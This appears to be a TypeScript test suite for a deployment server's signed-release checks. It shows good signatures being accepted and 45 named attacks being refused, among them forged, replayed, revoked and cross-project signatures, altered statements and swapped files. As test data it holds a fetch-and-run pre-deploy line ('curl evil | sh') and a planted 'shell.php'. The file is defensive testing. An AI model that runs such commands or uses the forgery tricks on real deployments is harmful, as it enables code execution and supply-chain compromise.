/*
 * Signed releases: what the policy of a project says about them, and attacks, each with a name: every one is refused with its
 * code, and the target stays as it was.
 */
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { Readable } from 'node:stream'
import { setTimeout as sleep } from 'node:timers/promises'
import t, { type Test } from 'tap'
import { envelopeText, sealed } from '../../lib/core/proof/dsse.js'
import { statementType } from '../../lib/base/shared/statement-text.js'
import { sshSigned } from '../../lib/core/proof/sshsig.js'
import { minisigned } from '../../lib/core/proof/minisign.js'
import { readPublicKey } from '../../lib/core/proof/keys.js'
import { archivedDeployments } from '../../lib/core/store/tables/deployments.js'
import { insertSigningKey, updateSigningKey } from '../../lib/core/store/tables/signing-keys.js'
import type { DeployRequest } from '../../lib/deploy/admission.js'
import { createDeployer } from '../../lib/deploy/deployer.js'
import { otherThanSigned, signersFile } from '../../lib/deploy/signatures.js'
import { defaultSignatures, type SignaturePolicy } from '../../lib/model/policy.js'
import type { Project } from '../../lib/model/project.js'
import { admin, type DeployStage, deployStage } from '../support/deploy-stage.js'
import { sendChanges } from '../support/changes-stage.js'
import { zipOf } from '../support/zips.js'
import { aKey, digestOf, signedBy, statementOf, type TestKey } from '../support/signed-releases.js'

const files = { 'index.html': 'new', 'app.js': 'let x' }
const before = { 'index.html': 'old' }

interface Scene {
  stage: DeployStage
  shop: Project
  ana: TestKey
  bo: TestKey
  mallory: TestKey
}

async function scene(t: Test, policy: Partial<SignaturePolicy> = {}): Promise<Scene> {
  const stage = await deployStage(t)
  const [ana, bo, mallory] = [aKey('ana'), aKey('bo'), aKey('mallory')]
  await stage.store.write(tx => {
    insertSigningKey(tx, ana.row)
    insertSigningKey(tx, bo.row)
  })
  const shop = await stage.addProject({ name: 'shop' })
  await stage.deploy(shop, before)
  shop.policy = { signatures: { ...defaultSignatures, require: 'refuse', ...policy } }
  await stage.change(shop, { policy: shop.policy })
  return { stage, shop, ana, bo, mallory }
}

/** Returns the files of a target with their texts. */
function contents({ deployPath }: Project): Record<string, string> {
  return Object.fromEntries(
    readdirSync(deployPath)
      .filter(name => !name.startsWith('.'))
      .sort()
      .map(name => [name, readFileSync(join(deployPath, name), 'utf8')])
  )
}

t.test('a release with a good signature is deployed, and says who signed it', async t => {
  const { stage, shop, ana } = await scene(t)
  const sent = signedBy(statementOf(shop.id, files), ana)
  const row = await stage.deploy(shop, files, { sent })
  t.match(row, { status: 'success', signedBy: [{ key: ana.row.id, name: 'ana', fingerprint: ana.row.fingerprint }] })
  t.match(row.statement, { sequence: 100, sha256: digestOf(sent.statement) })
  t.match(await stage.output(row.id), `→ signed by ana (${ana.row.fingerprint})`)
  const list = await stage.deployer.attestations(row.id)
  t.strictSame(
    list.map(({ name }) => name),
    ['statement.json', '1.sig']
  )
  t.equal(Buffer.from((await stage.deployer.attestation(row.id, 'statement.json')).content).toString(), sent.statement)
  await t.rejects(stage.deployer.attestation(row.id, 'other'), { code: 'not_found' })

  t.test('a rollback to it, a promotion, and a repair need no other signature', async t => {
    const next = { 'index.html': 'newer' }
    const second = await stage.deploy(shop, next, {
      sent: signedBy(statementOf(shop.id, next, { sequence: 101 }), ana)
    })
    t.equal(second.status, 'success', second.errorMessage ?? '')
    const back = await (await stage.deployer.rollback(row.id, { actor: admin, mode: 'overlay' })).finished
    t.match(back, { status: 'success', signedBy: row.signedBy, treeSha256: row.treeSha256 }, back.errorMessage ?? '')
    writeFileSync(join(shop.deployPath, 'app.js'), 'edited')
    const repair = await stage.deployer.repair(shop.id, { actor: admin, signal: new AbortController().signal })
    t.equal((await repair.finished).status, 'success')
    t.equal(contents(shop)['app.js'], 'let x')
    const undo = await stage.deployer.undo(shop.id, { actor: admin })
    t.equal((await undo.finished).status, 'success')
  })
})

t.test('a policy that warns deploys, and says what is missing', async t => {
  const { stage, shop, ana, mallory } = await scene(t, { require: 'warn', threshold: 2 })
  const row = await stage.deploy(shop, files)
  t.match(await stage.output(row.id), /warning: Project shop takes only releases that 2 trusted keys signed/)
  const other = await stage.deploy(shop, files, { sent: signedBy(statementOf(shop.id, files), mallory) })
  t.match(await stage.output(other.id), /warning: .* is not a trusted key/)
  t.strictSame(other.signedBy, [])
  const one = await stage.deploy(shop, files, { sent: signedBy(statementOf(shop.id, files), ana) })
  t.equal(one.signedBy.length, 1)
  t.match(await stage.output(one.id), /warning: .*1 trusted key signed the release \(ana\), and 2 must/)
})

t.test('without a policy nothing is asked', async t => {
  const { stage, shop, mallory } = await scene(t, { require: 'off' })
  t.equal((await stage.deploy(shop, files)).status, 'success')
  const row = await stage.deploy(shop, files, { sent: signedBy(statementOf(shop.id, files), mallory) })
  t.match(row, { status: 'success', signedBy: [], statement: { sequence: 100 } })
})

t.test('the owner of the server demands signatures, whatever a project says', async t => {
  const { stage, shop, ana, mallory } = await scene(t, { require: 'off' })
  const path = signersFile(stage.home.directory)
  mkdirSync(dirname(path), { recursive: true })
  const raw = mallory.row.public
  const { key } = readPublicKey(raw)
  const spki = key.export({ type: 'spki', format: 'der' }).subarray(12)
  const head = Buffer.from('0000000b7373682d6564323535313900000020', 'hex')
  writeFileSync(path, `mallory namespaces="svc-deploy" ssh-ed25519 ${Buffer.concat([head, spki]).toString('base64')}\n`)
  const strict = createDeployer({ ...stage, requireSignatures: true })
  t.teardown(() => strict.stop({ wait: false }))
  const push = async (request: Partial<DeployRequest>) => {
    const received = await stage.deployer.receive(Readable.from([await zipOf(files)]), {
      limitBytes: 1e9,
      signal: new AbortController().signal
    })
    return strict.deploy(received, { projectId: shop.id, env: {}, actor: admin, ...request })
  }
  t.match(strict.signatureDemand(shop.id), { require: 'refuse', by: 'server', keys: ['mallory'] })
  await t.rejects(push({}), { code: 'signature_missing' })
  const fromHub = { origin: 'source deployment' } as const
  await t.rejects(push(fromHub), { code: 'signature_missing' }, 'nor does a hub that has removed them')
  const statement = statementOf(shop.id, files)
  await t.rejects(
    push({ sent: signedBy(statement, ana) }),
    { code: 'signature_unknown_key' },
    'the table does not count'
  )
  const signatures = [sshSigned(Buffer.from(statement), mallory.privateKey)]
  const row = await (await push({ sent: { statement, signatures } })).finished
  t.match(row, { status: 'success', signedBy: [{ name: 'mallory' }] })
})

t.test('the pre-deploy script runs after the archive was verified', async t => {
  const { stage, shop, ana } = await scene(t)
  const preDeploy = 'touch ran'
  const scripts = { preDeploy: digestOf(preDeploy) }
  const row = await stage.deploy(shop, files, {
    preDeploy,
    sent: signedBy(statementOf(shop.id, files, { scripts }), ana)
  })
  t.equal(row.status, 'success', row.errorMessage ?? '')
  const output = await stage.output(row.id)
  t.ok(output.indexOf('verified the archive before') < output.indexOf('pre-deploy script ('), output)
  const swapped = await stage.deploy(
    shop,
    { ...files, 'app.js': 'swapped' },
    {
      preDeploy: 'touch never',
      sent: signedBy(statementOf(shop.id, files, { scripts: { preDeploy: digestOf('touch never') } }), ana)
    }
  )
  t.match(
    swapped,
    { status: 'failed', errorMessage: /"app\.js" differs/ },
    'the path is named if a kept release has the tree'
  )
  t.notOk(existsSync(join(shop.deployPath, 'never')), 'the script never ran')
})

/* Attacks on a project that takes only signed releases. */

interface Attack {
  code: string
  policy?: Partial<SignaturePolicy>
  request(scene: Scene): Partial<DeployRequest> | Promise<Partial<DeployRequest>>
  files?: Record<string, string>
}

const day = 86_400_000
const inDays = (days: number): string => new Date(Date.now() + days * day).toISOString()
const good = ({ shop, ana }: Scene) => signedBy(statementOf(shop.id, files), ana)
const sshKeyRow = ({ privateKey, row }: TestKey) => {
  const spki = readPublicKey(row.public).key.export({ type: 'spki', format: 'der' }).subarray(12)
  const head = Buffer.from('0000000b7373682d6564323535313900000020', 'hex')
  const line = `ssh-ed25519 ${Buffer.concat([head, spki]).toString('base64')}`
  const { kind, text, fingerprint } = readPublicKey(line)
  return { key: { ...row, id: `${row.id}_ssh`, kind, public: text, fingerprint }, privateKey }
}

const attacks: Record<string, Attack> = {
  'no signature': { code: 'signature_missing', request: () => ({}) },
  'a statement without a signature': {
    code: 'signature_missing',
    request: ({ shop }) => ({ sent: { statement: statementOf(shop.id, files), signatures: [] } })
  },
  'a key that nobody trusts': {
    code: 'signature_unknown_key',
    request: ({ shop, mallory }) => ({ sent: signedBy(statementOf(shop.id, files), mallory) })
  },
  'a signature for another project': {
    code: 'signature_other_project',
    request: ({ ana }) => ({ sent: signedBy(statementOf('proj_stagingstagingaa', files), ana) })
  },
  'a statement of which a byte was changed': {
    code: 'signature_bad',
    request: scene => {
      const { statement, signatures } = good(scene)
      return { sent: { statement: statement.replace('"sequence":100', '"sequence":900'), signatures } }
    }
  },
  'another project written into a signed statement': {
    code: 'signature_bad',
    request: ({ shop, ana }) => {
      const { statement, signatures } = signedBy(statementOf('proj_stagingstagingaa', files), ana)
      return { sent: { statement: statement.replace('proj_stagingstagingaa', shop.id), signatures } }
    }
  },
  'a space after a signed statement': {
    code: 'signature_bad',
    request: scene => ({ sent: { ...good(scene), statement: `${good(scene).statement} ` } })
  },
  'a statement in another encoding': {
    code: 'signature_bad',
    request: scene => ({ sent: { ...good(scene), statement: good(scene).statement.replace('shop', '\\u0073hop') } })
  },
  'a mark of the byte order before it': {
    code: 'signature_bad',
    request: scene => ({ sent: { ...good(scene), statement: `\ufeff${good(scene).statement}` } })
  },
  'a key of the statement twice': {
    code: 'signature_bad',
    request: ({ shop, ana }) => {
      const doubled = statementOf('proj_stagingstagingaa', files).replace(
        '"projectId":',
        `"projectId":"${shop.id}","projectId":`
      )
      return { sent: signedBy(doubled, ana) }
    }
  },
  'a key of the statement twice, once in escapes': {
    code: 'signature_bad',
    request: ({ shop, ana }) => {
      const doubled = statementOf('proj_stagingstagingaa', files).replace(
        '"projectId":',
        `"projec\\u0074Id":"${shop.id}","projectId":`
      )
      return { sent: signedBy(doubled, ana) }
    }
  },
  'a payload of another type': {
    code: 'signature_bad',
    request: ({ shop, ana }) => {
      const statement = statementOf(shop.id, files)
      const text = envelopeText(sealed('application/json', Buffer.from(statement), [ana.privateKey]))
      return { sent: { statement, signatures: [text] } }
    }
  },
  'the type of a payload changed after signing': {
    code: 'signature_bad',
    request: ({ shop, ana }) => {
      const statement = statementOf(shop.id, files)
      const text = envelopeText(sealed('application/json', Buffer.from(statement), [ana.privateKey]))
      return { sent: { statement, signatures: [text.replace('application/json', statementType)] } }
    }
  },
  'an envelope around another statement': {
    code: 'signature_bad',
    request: ({ shop, ana }) => {
      const other = Buffer.from(statementOf(shop.id, before))
      const text = envelopeText(sealed(statementType, other, [ana.privateKey]))
      return { sent: { statement: statementOf(shop.id, files), signatures: [text] } }
    }
  },
  'a signature of another statement': {
    code: 'signature_bad',
    request: ({ shop, ana }) => {
      const { signatures } = signedBy(statementOf(shop.id, before), ana)
      return { sent: { statement: statementOf(shop.id, files), signatures } }
    }
  },
  'an older type of statement': {
    code: 'signature_bad',
    request: ({ shop, ana }) => ({
      sent: signedBy(statementOf(shop.id, files).replace('Statement/v1', 'Statement/v0.1'), ana)
    })
  },
  'a statement about something else than a push': {
    code: 'signature_bad',
    request: ({ shop, ana }) => ({
      sent: signedBy(statementOf(shop.id, files).replace('urn:svc:push:v1', 'urn:svc:other:v1'), ana)
    })
  },
  'two trees in one statement': {
    code: 'signature_bad',
    request: ({ shop, ana }) => {
      const second = `{"name":"x","digest":{"sha256":"${digestOf('x')}"}}`
      return { sent: signedBy(statementOf(shop.id, files).replace('"subject":[', `"subject":[${second},`), ana) }
    }
  },
  'a signature that names a trusted key and is of another': {
    code: 'signature_bad',
    request: ({ shop, ana, mallory }) => {
      const { statement, signatures } = signedBy(statementOf(shop.id, files), mallory)
      const named = (signatures[0] as string).replace(mallory.row.fingerprint, ana.row.fingerprint)
      return { sent: { statement, signatures: [named] } }
    }
  },
  'a signature without the name of its key': {
    code: 'signature_unknown_key',
    request: ({ shop, ana }) => {
      const { statement, signatures } = signedBy(statementOf(shop.id, files), ana)
      return { sent: { statement, signatures: [(signatures[0] as string).replace(ana.row.fingerprint, '')] } }
    }
  },
  'a signature for another namespace': {
    code: 'signature_bad',
    async request({ stage, shop, ana }) {
      const { key, privateKey } = sshKeyRow(ana)
      await stage.store.write(tx => insertSigningKey(tx, key))
      const statement = statementOf(shop.id, files)
      const text = sshSigned(Buffer.from(statement), privateKey)
      const blob = Buffer.from(text.split('\n').slice(1, -2).join(''), 'base64')
      const at = blob.indexOf('svc-deploy')
      blob.write('svc-attest', at)
      return {
        sent: {
          statement,
          signatures: [`-----BEGIN SSH SIGNATURE-----\n${blob.toString('base64')}\n-----END SSH SIGNATURE-----\n`]
        }
      }
    }
  },
  'an SSH signature of a key that is trusted for another tool': {
    code: 'signature_unknown_key',
    request: ({ shop, ana }) => {
      const statement = statementOf(shop.id, files)
      return { sent: { statement, signatures: [sshSigned(Buffer.from(statement), ana.privateKey)] } }
    }
  },
  'a signature of minisign with the id of a trusted key': {
    code: 'signature_bad',
    async request({ stage, shop, ana, mallory }) {
      const keyId = Buffer.from('01234567')
      const spki = readPublicKey(ana.row.public).key.export({ type: 'spki', format: 'der' }).subarray(12)
      const line = Buffer.concat([Buffer.from('Ed'), keyId, spki]).toString('base64')
      const row = { ...ana.row, id: 'key_minisign', kind: 'minisign', public: line } as const
      await stage.store.write(tx => insertSigningKey(tx, row))
      const statement = statementOf(shop.id, files)
      const text = minisigned(Buffer.from(statement), { key: mallory.privateKey, keyId }, 'timestamp:1')
      return { sent: { statement, signatures: [text] } }
    }
  },
  'a statement that has expired': {
    code: 'signature_expired',
    request: ({ shop, ana }) => ({ sent: signedBy(statementOf(shop.id, files, { notAfter: inDays(-1) }), ana) })
  },
  'a key that has expired': {
    code: 'signature_expired',
    async request(scene) {
      await scene.stage.store.write(tx => updateSigningKey(tx, scene.ana.row.id, { notAfter: inDays(-1) }))
      return { sent: good(scene) }
    }
  },
  'a key that may not sign yet': {
    code: 'signature_expired',
    async request(scene) {
      await scene.stage.store.write(tx => updateSigningKey(tx, scene.ana.row.id, { notBefore: inDays(1) }))
      return { sent: good(scene) }
    }
  },
  'a key that was revoked': {
    code: 'signature_unknown_key',
    async request(scene) {
      await scene.stage.store.write(tx => updateSigningKey(tx, scene.ana.row.id, { revokedAt: inDays(-1) }))
      return { sent: good(scene) }
    }
  },
  'a key of other projects': {
    code: 'signature_unknown_key',
    async request(scene) {
      await scene.stage.store.write(tx => updateSigningKey(tx, scene.ana.row.id, { projectIds: ['proj_other'] }))
      return { sent: good(scene) }
    }
  },
  'a key that the policy does not name': {
    code: 'signature_unknown_key',
    policy: { keys: ['key_bo'] },
    request: scene => ({ sent: good(scene) })
  },
  'one signature where two are needed': {
    code: 'signature_below_threshold',
    policy: { threshold: 2 },
    request: scene => ({ sent: good(scene) })
  },
  'the same key twice': {
    code: 'signature_below_threshold',
    policy: { threshold: 2 },
    request: ({ shop, ana }) => ({ sent: signedBy(statementOf(shop.id, files), ana, ana) })
  },
  'the same key in two forms': {
    code: 'signature_below_threshold',
    policy: { threshold: 2 },
    async request({ stage, shop, ana }) {
      const { key, privateKey } = sshKeyRow(ana)
      await stage.store.write(tx => insertSigningKey(tx, { ...key, name: 'ana in ssh' }))
      const { statement, signatures } = signedBy(statementOf(shop.id, files), ana)
      return { sent: { statement, signatures: [...signatures, sshSigned(Buffer.from(statement), privateKey)] } }
    }
  },
  'a trusted and an unknown key where two are needed': {
    code: 'signature_below_threshold',
    policy: { threshold: 2 },
    request: ({ shop, ana, mallory }) => ({ sent: signedBy(statementOf(shop.id, files), ana, mallory) })
  },
  'seventeen signatures': {
    code: 'signature_bad',
    request: ({ shop, ana }) => ({
      sent: signedBy(statementOf(shop.id, files), ...Array.from({ length: 17 }, () => ana))
    })
  },
  'a good signature beside a forged one': {
    code: 'signature_bad',
    request: ({ shop, ana, bo }) => {
      const { statement, signatures } = signedBy(statementOf(shop.id, files), ana)
      const forged = signedBy(statementOf(shop.id, before), bo).signatures
      return { sent: { statement, signatures: [...signatures, ...forged] } }
    }
  },
  'a release that was signed before the newest one': {
    code: 'signature_replayed',
    async request({ stage, shop, ana }) {
      const newer = signedBy(statementOf(shop.id, before, { sequence: 184 }), ana)
      const { status } = await stage.deploy(shop, before, { sent: newer })
      if (status !== 'success') throw new Error('the newer one failed')
      return { sent: signedBy(statementOf(shop.id, files, { sequence: 183 }), ana) }
    }
  },
  'a script beside a signed release': {
    code: 'signature_bad',
    request: scene => ({ sent: good(scene), preDeploy: 'curl evil | sh' })
  },
  'another script than the one that was signed': {
    code: 'signature_bad',
    request: ({ shop, ana }) => ({
      sent: signedBy(statementOf(shop.id, files, { scripts: { postDeploy: digestOf('make') } }), ana),
      postDeploy: 'make evil'
    })
  },
  'a signed script as another step': {
    code: 'signature_bad',
    request: ({ shop, ana }) => ({
      sent: signedBy(statementOf(shop.id, files, { scripts: { postDeploy: digestOf('make') } }), ana),
      preDeploy: 'make'
    })
  },
  'a signed script left out': {
    code: 'signature_bad',
    request: ({ shop, ana }) => ({
      sent: signedBy(statementOf(shop.id, files, { scripts: { preDeploy: digestOf('migrate') } }), ana)
    })
  },
  'a variable that was not signed': {
    code: 'signature_bad',
    request: scene => ({ sent: good(scene), env: { LD_PRELOAD_HINT: 'x' } })
  },
  'a variable that was not signed, with a release that a hub calls an earlier one': {
    code: 'signature_bad',
    request: scene => ({ sent: good(scene), env: { LD_PRELOAD_HINT: 'x' }, origin: 'source deployment' })
  },
  'a signed variable left out': {
    code: 'signature_bad',
    request: ({ shop, ana }) => ({ sent: signedBy(statementOf(shop.id, files, { env: ['STAGE'] }), ana) })
  },
  'a signed list of components left out': {
    code: 'signature_bad',
    request: ({ shop, ana }) => ({ sent: signedBy(statementOf(shop.id, files, { sbomSha256: digestOf('{}') }), ana) })
  },
  'no list of components where one is needed': {
    code: 'sbom_missing',
    policy: { sbom: 'require' },
    request: scene => ({ sent: good(scene) })
  }
}

t.equal(Object.keys(attacks).length, 45)
for (const [name, { code, policy, request, files: sent = files }] of Object.entries(attacks)) {
  t.test(`refused: ${name}`, async t => {
    const here = await scene(t, policy)
    const given = await request(here)
    const was = contents(here.shop)
    await t.rejects(here.stage.push(here.shop, sent, given), { code, kind: 'forbidden' })
    t.strictSame(contents(here.shop), was, 'the target is as it was')
    t.strictSame(readdirSync(here.stage.home.tmp), [], 'nothing is left of it')
  })
}

t.test('attacks on the files', async t => {
  const { stage, shop, ana } = await scene(t)
  const sent = signedBy(statementOf(shop.id, files), ana)
  const other: Record<string, Record<string, string>> = {
    'a file with other contents': { ...files, 'app.js': 'let y' },
    'a file more': { ...files, 'shell.php': '<?php' },
    'a file less': { 'index.html': 'new' },
    'a file with another name': { 'index.html': 'new', 'App.js': 'let x' }
  }
  for (const [name, swapped] of Object.entries(other)) {
    const row = await stage.deploy(shop, swapped, { sent })
    t.match(row, { status: 'failed', errorMessage: /does not contain the files that were signed/, placed: null }, name)
    t.strictSame(contents(shop), before, `${name}: the target is as it was`)
  }
  t.match(otherThanSigned('a'), { code: 'tree_differs', message: /"a" differs/ })

  const row = await stage.deploy(shop, files, { sent })
  t.equal(row.status, 'success')
  const next = { ...files, 'index.html': 'third' }
  const third = await stage.deploy(shop, next, { sent: signedBy(statementOf(shop.id, next, { sequence: 101 }), ana) })
  t.equal(third.status, 'success', third.errorMessage ?? '')
  t.test('an upload of changes with other contents than the signed ones', async t => {
    const swapped = { ...files, 'app.js': 'evil' }
    const stolen = signedBy(statementOf(shop.id, files, { sequence: 102 }), ana)
    const changed = sendChanges(stage.deployer, shop, swapped, undefined, { sent: stolen })
    await t.rejects(changed, { code: 'tree_differs' })
    t.strictSame(contents(shop), next, 'the target is as it was')
    const sent = signedBy(statementOf(shop.id, files, { sequence: 103 }), ana)
    const good = await sendChanges(stage.deployer, shop, files, undefined, { sent })
    t.match(good, { status: 'success', signedBy: [{ name: 'ana' }] }, good.errorMessage ?? '')
    const again = signedBy(statementOf(shop.id, next, { sequence: 104 }), ana)
    t.match(await sendChanges(stage.deployer, shop, next, undefined, { sent: again }), { status: 'success' })
  })
  t.test('a kept archive that somebody changed', async t => {
    const archive = join(stage.home.deployments, `${row.id}.zip`)
    writeFileSync(archive, await zipOf({ ...files, 'app.js': 'evil' }))
    const back = await (await stage.deployer.rollback(row.id, { actor: admin, mode: 'overlay' })).finished
    t.match(back, { status: 'failed', errorMessage: /does not contain the files that were signed/ })
    t.strictSame(contents(shop), next)
  })
  t.test('a kept release that nobody signed', async t => {
    const oldest = archivedDeployments(stage.store, shop.id).find(
      ({ statement, status }) => statement === null && status === 'success'
    )
    await t.rejects(stage.deployer.rollback(oldest?.id ?? '', { actor: admin, mode: 'overlay' }), {
      code: 'signature_missing'
    })
    await t.rejects(stage.deployer.rollback(oldest?.id ?? '', { actor: admin, mode: 'exact' }), {
      code: 'signature_missing'
    })
  })
})

t.test('attacks on the way back', async t => {
  const { stage, shop, ana } = await scene(t, { rollbackBySignature: 'refuse' })
  const first = await stage.deploy(shop, files, { sent: signedBy(statementOf(shop.id, files), ana) })
  const next = { 'index.html': 'third' }
  await stage.deploy(shop, next, { sent: signedBy(statementOf(shop.id, next, { sequence: 101 }), ana) })
  for (const mode of ['overlay', 'exact'] as const)
    await t.rejects(stage.deployer.rollback(first.id, { actor: admin, mode }), { code: 'signature_replayed' }, mode)
  await t.rejects(stage.deployer.undo(shop.id, { actor: admin }), { code: 'signature_replayed' })

  const other = await stage.addProject({ name: 'production', policy: shop.policy })
  await t.rejects(
    stage.deployer.promote(other.id, { from: first.id, actor: admin }),
    { code: 'signature_other_project' },
    'a signature for staging does not open production'
  )
  const both = signedBy(statementOf(shop.id, next, { sequence: 102, alsoFor: [other.id] }), ana)
  const third = await stage.deploy(shop, next, { sent: both })
  const promoted = await (await stage.deployer.promote(other.id, { from: third.id, actor: admin })).finished
  t.match(promoted, { status: 'success', signedBy: [{ name: 'ana' }] }, promoted.errorMessage ?? '')
})

t.test('a key that is revoked while a release waits', async t => {
  const { stage, shop, ana } = await scene(t)
  const startAt = new Date(Date.now() + 1500).toISOString()
  const run = await stage.push(shop, files, { sent: signedBy(statementOf(shop.id, files), ana), startAt })
  await stage.store.write(tx => updateSigningKey(tx, ana.row.id, { revokedAt: new Date().toISOString() }))
  // The timer of the deployment does not keep the process alive.
  const row = await Promise.race([run.finished, sleep(20_000)])
  t.match(row, { status: 'failed', errorMessage: /was revoked/ })
  t.strictSame(contents(shop), before)
})

t.test('a key is revoked as of a time: what was accepted before stays valid', async t => {
  const { stage, shop, ana } = await scene(t)
  const first = await stage.deploy(shop, files, { sent: signedBy(statementOf(shop.id, files), ana) })
  const next = { 'index.html': 'third' }
  await stage.deploy(shop, next, { sent: signedBy(statementOf(shop.id, next, { sequence: 101 }), ana) })
  await stage.store.write(tx => updateSigningKey(tx, ana.row.id, { revokedAt: new Date(Date.now() + 1).toISOString() }))
  const back = await (await stage.deployer.rollback(first.id, { actor: admin, mode: 'overlay' })).finished
  t.equal(back.status, 'success', back.errorMessage ?? '')
  await stage.store.write(tx => updateSigningKey(tx, ana.row.id, { revokedAt: inDays(-1) }))
  await t.rejects(stage.deployer.rollback(first.id, { actor: admin, mode: 'overlay' }), {
    code: 'signature_unknown_key'
  })
})
